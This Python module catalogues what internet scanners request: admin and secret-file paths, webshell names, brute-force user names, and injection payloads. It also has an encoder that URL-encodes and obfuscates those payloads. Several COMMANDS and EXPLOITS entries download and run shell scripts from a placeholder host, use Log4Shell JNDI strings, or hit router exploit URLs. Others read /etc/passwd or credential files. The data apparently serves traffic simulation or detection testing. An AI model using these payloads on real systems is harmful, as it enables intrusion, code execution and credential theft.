"""What scanners ask for: well-known paths by product, user names of wordlists, and attack strings in their encodings."""

# ruff: noqa: SIM905, E501 - lists of paths and names read better as text, payloads in one piece

from random import Random
from urllib.parse import quote

ADMIN = (
    "/admin /administrator /wp-admin /phpmyadmin /pma /manager/html /admin.php /login /user/login /admin/login /cpanel "
    "/adminer.php /dbadmin /mysql /phpMyAdmin /wp-login.php /administrator/index.php /backend /webadmin /panel /console "
    "/solr/admin /admin/config.php /sysadmin /controlpanel /siteadmin /admin_area /myadmin /sqlweb /dashboard /owa/ /cms"
).split()
SECRETS = (
    "/.env /.git/config /.git/HEAD /.aws/credentials /.env.bak /.env.production /config.json /wp-config.php.bak "
    "/backup.zip /dump.sql /.DS_Store /.svn/entries /id_rsa /.ssh/id_rsa /database.sql /backup.tar.gz /.vscode/sftp.json "
    "/config.php~ /.htpasswd /server-status /phpinfo.php /info.php /api/.env /laravel/.env /.docker/config.json"
).split()
WORDPRESS = (
    "/wp-login.php /xmlrpc.php /wp-includes/wlwmanifest.xml /blog/wp-includes/wlwmanifest.xml /wp-json/wp/v2/users "
    "/wordpress/wp-login.php /wp/wp-login.php /?author=1 /wp-content/plugins/wp-file-manager/readme.txt /readme.html "
    "/wp-content/debug.log /wp1/wp-includes/wlwmanifest.xml /site/wp-includes/wlwmanifest.xml /wp-config.php "
    "/wp-admin/install.php /wp-admin/setup-config.php /wp-content/uploads/ /wp-cron.php /news/wp-includes/wlwmanifest.xml"
).split()
DEVICES = (
    "/HNAP1/ /boaform/admin/formLogin /GponForm/diag_Form?images/ /cgi-bin/luci /actuator/health /solr/ /evox/about "
    "/sdk /nmaplowercheck1700000000 /portal/redlion /hudson /geoserver/web/ /remote/fgt_lang?lang=en /telescope/requests "
    "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php "
    "/owa/auth/logon.aspx /druid/index.html /_ignition/execute-solution /v2/_catalog /api/v1/pods /actuator/env /jenkins/login"
).split()
SHELLS = (
    "shell.php x.php wso.php alfa.php c99.php 1.php up.php cmd.php radio.php about.php mini.php w.php xl.php bypass.php "
    "test.php log.php help.php java.php db_pma.php hell.php content.php lock360.php admin-ajax.php wp-info.php"
).split()
SHELL_FOLDERS = (
    "/",
    "/wp-content/",
    "/wp-includes/",
    "/uploads/",
    "/images/",
    "/wp-content/plugins/",
    "/.well-known/",
    "/cgi-bin/",
    "/css/",
)
LISTS = {"admin": ADMIN, "secrets": SECRETS, "wordpress": WORDPRESS, "devices": DEVICES}
USERS = (
    "admin test user oracle postgres ubuntu git ftpuser ftp guest pi deploy mysql support jenkins hadoop nagios www debian "
    "centos ec2-user administrator web student backup tomcat minecraft steam ts3 odoo zabbix ansible vagrant dev demo "
    "server www-data solana validator node eth sol trader developer teamspeak user1 test1 info sales dspace es elastic "
    "apache nginx redis kafka gitlab sysadmin operator default supervisor tech manager david michael john mike daniel alex"
).split()
GARBAGE = (
    "\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03",
    "\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
    "\x05\x01\x00",
    "MGLNDD_192.0.2.1_80",
    "SSH-2.0-Go",
    "CONNECT www.example.com:443 HTTP/1.1",
    "OPTIONS / RTSP/1.0",
)
SQLI = (
    "'",
    '"',
    "1'",
    "1' OR '1'='1",
    "1' OR '1'='1'-- -",
    "1 AND 1=1",
    "1 AND 1=2",
    "1') AND ('a'='a",
    "-1 UNION SELECT NULL,NULL,NULL-- -",
    "-1 UNION ALL SELECT 1,2,concat(0x7e,version(),0x7e),4#",
    "1/**/UNION/**/SELECT/**/user,password/**/FROM/**/users",
    "1; WAITFOR DELAY '0:0:5'--",
    "1' AND SLEEP(5)-- -",
    "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -",
    "1 ORDER BY 1-- -",
    "1 ORDER BY 9-- -",
    "1' AND extractvalue(1,concat(0x7e,database()))-- -",
    "1 procedure analyse()",
    "admin'--",
    "1' AND 1234=CAST((CHR(113)||CHR(98)) AS NUMERIC)-- x",
    "(SELECT 5121 FROM PG_SLEEP(5))",
    "1%' AND 7313=7313 AND '%'='",
)
XSS = (
    "<script>alert(1)</script>",
    '"><svg/onload=alert(document.domain)>',
    "'><img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "<iframe src=javascript:alert(1)>",
    '"onmouseover=prompt(1) x="',
    "<body onload=alert`1`>",
)
TRAVERSAL = (
    "../../../../etc/passwd",
    "....//....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd%00",
    "php://filter/convert.base64-encode/resource=index.php",
    "../../../../proc/self/environ",
    "file:///etc/passwd",
)
COMMANDS = (
    ";id",
    "|cat /etc/passwd",
    "$(wget http://198.51.100.77/a.sh -O- | sh)",
    "`curl 198.51.100.77/x`",
    "${jndi:ldap://198.51.100.77:1389/a}",
    "${${lower:j}ndi:${lower:l}dap://198.51.100.77/Exploit}",
    "{{7*7}}",
    "%{(#_='multipart/form-data').(#cmd='id')}",
    "() { :; }; /bin/bash -c 'id'",
)
EXPLOITS = (
    (
        "GET",
        "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello",
    ),
    ("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh"),
    (
        "GET",
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://198.51.100.77/t+-O-|sh`)",
    ),
    ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.77/jaws;sh+/tmp/jaws"),
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    (
        "GET",
        "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.77/m+-O+/tmp/n;sh+n&curpath=/",
    ),
    ("POST", "/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"),
    ("GET", "/?a=fetch&content=<php>die(@md5(HelloThinkCMF))</php>"),
    ("POST", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"),
    ("GET", "/api/jsonws/invoke"),
    ("POST", "/boaform/admin/formLogin"),
    ("GET", "/public/plugins/text/../../../../../../../../etc/passwd"),
    ("GET", "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../"),
    ("POST", "/wls-wsat/CoordinatorPortType"),
)
INJECTIONS = {"sqli": SQLI, "xss": XSS, "traversal": TRAVERSAL, "rce": COMMANDS}
ENCODINGS = ("plain", "quoted", "full", "double", "unicode", "comment", "case", "plus")


def encode(rng: Random, payload: str, how: str | None = None) -> str:  # noqa: PLR0911 - one for each encoding
    """A payload as an attacker puts it into a query value, in one of ENCODINGS."""
    how = how or rng.choice(ENCODINGS)
    if how == "plain":
        return payload.replace(" ", "%20").replace("#", "%23").replace("&", "%26")
    if how == "full":
        return "".join(f"%{byte:02x}" for byte in payload.encode())
    if how == "double":
        return quote(quote(payload, safe=""), safe="")
    if how == "unicode":
        return "".join(c if c.isalnum() else f"%u{ord(c):04x}" for c in payload)
    if how == "comment":
        return quote(payload.replace(" ", "/**/"), safe="/*(),=")
    if how == "case":
        return quote("".join(c.upper() if rng.random() < 0.5 else c.lower() for c in payload), safe="")
    if how == "plus":
        return quote(payload, safe="(),=").replace("%20", "+")
    return quote(payload, safe="")
